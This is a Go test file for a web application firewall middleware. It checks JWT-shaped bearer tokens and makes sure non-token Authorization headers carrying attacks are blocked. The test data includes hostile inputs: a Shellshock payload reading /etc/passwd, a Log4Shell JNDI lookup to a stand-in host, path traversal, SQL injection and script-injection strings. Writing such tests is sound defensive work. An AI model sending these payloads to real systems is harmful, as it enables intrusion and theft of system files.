package waf

import (
	"encoding/base64"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/types"
)

func TestIsBearerJWT(t *testing.T) {
	tests := []struct {
		v    string
		want bool
	}{
		{"Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln-_Zz09", true},
		{"bearer a.b.c", true},
		{"Bearer a.b.", true}, // unsigned (alg none): the authorizer refuses it
		{"Bearer a..c", false},
		{"Bearer .b.c", false},
		{"Bearer a.b", false},
		{"Bearer a.b.c.d.e", false}, // JWE: not what the authorizer takes
		{"Bearer a.b.c ", false},
		{"Bearer  a.b.c", false},
		{"Bearer a.b.c/../../etc/passwd", false},
		{"Bearer a.b+c.d", false},
		{"Bearer a.b=.c", false},
		{"Basic dXNlcjpwYXNz", false},
		{"Bearer ", false},
		{"", false},
	}
	for _, tt := range tests {
		if got := isBearerJWT(tt.v); got != tt.want {
			t.Errorf("isBearerJWT(%q) = %v, want %v", tt.v, got, tt.want)
		}
	}
}

// TestBearerJWTNeverMatches holds the rule set to what isBearerJWT's shortcut assumes: an
// Authorization header that is a bearer JWT, inspected as it is, matches no rule, whatever
// its segments spell (attack words, decoded or not) and however long it is.
func TestBearerJWTNeverMatches(t *testing.T) {
	w, err := New(shipped(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	w.inspectTokens = true
	var matched []string
	w.observe = func(_ *http.Request, rules []types.MatchedRule) {
		for _, m := range rules {
			if m.Rule().Severity() != types.RuleSeverityUnset {
				matched = append(matched, m.Rule().File()+":"+m.Message())
			}
		}
	}
	h := w.Middleware(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	b64 := base64.RawURLEncoding.EncodeToString
	words := []string{
		"union", "select", "from", "users", "etc", "passwd", "cat", "script", "alert", "jndi",
		"ldap", "eval", "system", "exec", "cmd", "bin", "sh", "php", "wget", "curl", "sleep",
		"document", "cookie", "onerror", "SELECT", "UNION", "x", "0x41", "char", "concat",
	}
	tokens := []string{
		"Bearer " + b64([]byte(`{"alg":"RS256","kid":"k1"}`)) + "." + b64([]byte(`{"sub":"x","scope":"decagon/read"}`)) + "." + b64(make([]byte, 256)),
		"Bearer " + b64([]byte(`' OR '1'='1`)) + "." + b64([]byte(`<script>alert(1)</script>`)) + "." + b64([]byte(`;cat /etc/passwd`)),
		"Bearer " + b64([]byte(`${jndi:ldap://evil/a}`)) + "." + b64([]byte(`../../../../etc/passwd`)) + ".",
		"Bearer " + strings.Repeat("A", 8000) + ".b.c",
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for range 300 {
		var seg [3]string
		for i := range seg {
			var b strings.Builder
			for range 1 + rng.IntN(12) {
				switch rng.IntN(3) {
				case 0:
					b.WriteString(words[rng.IntN(len(words))])
				case 1:
					b.WriteString([]string{"-", "_", "--", "__", "-_-"}[rng.IntN(5)])
				default:
					b.WriteString(b64([]byte(words[rng.IntN(len(words))])))
				}
			}
			seg[i] = b.String()
		}
		tokens = append(tokens, "Bearer "+seg[0]+"."+seg[1]+"."+seg[2])
	}
	for _, tok := range tokens {
		if !isBearerJWT(tok) {
			t.Fatalf("test token %.80q is not JWT-shaped", tok)
		}
		matched = matched[:0]
		r := httptest.NewRequest(http.MethodGet, "/test?limit=20", nil)
		r.Header.Set("Authorization", tok)
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		if rec.Code != http.StatusOK || len(matched) > 0 {
			t.Errorf("Authorization %.100q: status %d, rules %v", tok, rec.Code, matched)
		}
	}
}

// TestAuthorizationInspected: an Authorization header that is not a bearer JWT goes through
// the rules as it is.
func TestAuthorizationInspected(t *testing.T) {
	w, err := New(shipped(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	h := w.Middleware(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	for _, v := range []string{
		"Bearer ../../../../etc/passwd",
		"Bearer a.b.c/../../../../etc/passwd",
		"() { :; }; /bin/cat /etc/passwd",
	} {
		r := httptest.NewRequest(http.MethodGet, "/test", nil)
		r.Header.Set("Authorization", v)
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, r)
		if rec.Code != http.StatusForbidden {
			t.Errorf("Authorization %q: status %d, want 403", v, rec.Code)
		}
	}
}
